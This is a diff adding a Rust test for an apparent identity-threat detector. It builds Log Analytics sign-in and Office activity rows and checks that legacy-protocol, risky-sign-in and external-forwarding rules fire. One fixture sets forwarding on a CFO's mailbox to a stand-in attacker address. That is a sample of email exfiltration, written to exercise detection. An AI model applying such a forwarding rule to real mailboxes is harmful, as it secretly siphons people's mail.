@@ -1029,3 +1029,104 @@ fn geoip_drives_travel_and_network_signals() {
     assert_eq!(e.asn, Some(15169));
     assert!(fired(&d.observe_enriched(&e), "signin.hosting_network"));
 }
+
+/// Rows shaped like real Log Analytics exports: the column lists of the corpus's
+/// `schema_*.header.csv` files, every column present, most empty.
+#[test]
+fn log_analytics_exports_with_real_headers() {
+    let corpus = std::env::var("WARD_CORPUS")
+        .map(std::path::PathBuf::from)
+        .unwrap_or_else(|_| std::path::PathBuf::from("/work/shared/corpus"));
+    let signin_header = corpus.join("audit/schema_sign-in_adelete.header.csv");
+    let office_header = corpus.join("audit/schema_office_activity.header.csv");
+    let (Ok(sh), Ok(oh)) = (
+        std::fs::read_to_string(&signin_header),
+        std::fs::read_to_string(&office_header),
+    ) else {
+        eprintln!("SKIP log analytics header test: corpus not found (set WARD_CORPUS)");
+        return;
+    };
+    let row = |header: &str, values: &[(&str, &str)]| -> String {
+        let cols: Vec<&str> = header
+            .trim()
+            .trim_start_matches('\u{feff}')
+            .split(',')
+            .collect();
+        let cells: Vec<String> = cols
+            .iter()
+            .map(|c| {
+                let v = values
+                    .iter()
+                    .find(|(k, _)| k == c)
+                    .map(|(_, v)| *v)
+                    .unwrap_or("");
+                format!("\"{}\"", v.replace('"', "\"\""))
+            })
+            .collect();
+        format!("{}\n{}\n", header.trim(), cells.join(","))
+    };
+    let dir = tempfile::tempdir().expect("tempdir");
+    let signins = dir.path().join("SigninLogs.csv");
+    std::fs::write(
+        &signins,
+        row(
+            &sh,
+            &[
+                ("CreatedDateTime [UTC]", "3/1/2025, 10:00:00.000 AM"),
+                ("Category", "SignInLogs"),
+                ("OperationName", "Sign-in activity"),
+                ("UserPrincipalName", "a@contoso.com"),
+                ("IPAddress", "198.51.100.7"),
+                ("ResultType", "0"),
+                ("ClientAppUsed", "IMAP4"),
+                ("Location", "DE"),
+                (
+                    "LocationDetails_dynamic",
+                    "{\"countryOrRegion\":\"DE\",\"city\":\"Berlin\"}",
+                ),
+                ("RiskLevelDuringSignIn", "high"),
+                ("RiskState", "atRisk"),
+                ("InitiatedBy", "{}"),
+            ],
+        ),
+    )
+    .expect("write");
+    let office = dir.path().join("OfficeActivity.csv");
+    std::fs::write(
+        &office,
+        row(&oh, &[
+            ("TimeGenerated [UTC]", "3/1/2025, 10:00:00.000 AM"),
+            ("Operation", "Set-Mailbox"),
+            ("OfficeWorkload", "Exchange"),
+            ("RecordType", "ExchangeAdmin"),
+            ("UserId", "cfo@contoso.com"),
+            ("ClientIP", "1.2.3.4:443"),
+            ("ResultStatus", "True"),
+            ("Parameters", "[{\"Name\":\"Identity\",\"Value\":\"cfo@contoso.com\"},{\"Name\":\"ForwardingSmtpAddress\",\"Value\":\"smtp:x@evil.example\"}]"),
+        ]),
+    )
+    .expect("write");
+    let mut d = Detector::new(DetectorConfig::default()).expect("detector");
+    let e = ward_identity::reader::read_file(&signins)
+        .expect("open")
+        .next()
+        .expect("row")
+        .1
+        .expect("event");
+    assert_eq!(e.source, ward_identity::Source::LogAnalytics);
+    assert_eq!(e.kind, ward_identity::Kind::SignIn);
+    assert_eq!(e.country.as_deref(), Some("DE"));
+    let hits = d.observe(&e);
+    assert!(
+        fired(&hits, "signin.legacy_protocol") && fired(&hits, "signin.entra_risk"),
+        "{hits:?}"
+    );
+    let e = ward_identity::reader::read_file(&office)
+        .expect("open")
+        .next()
+        .expect("row")
+        .1
+        .expect("event");
+    assert_eq!(e.ip, "1.2.3.4".parse().ok());
+    assert!(fired(&d.observe(&e), "mailbox.forwarding_external"));
+}
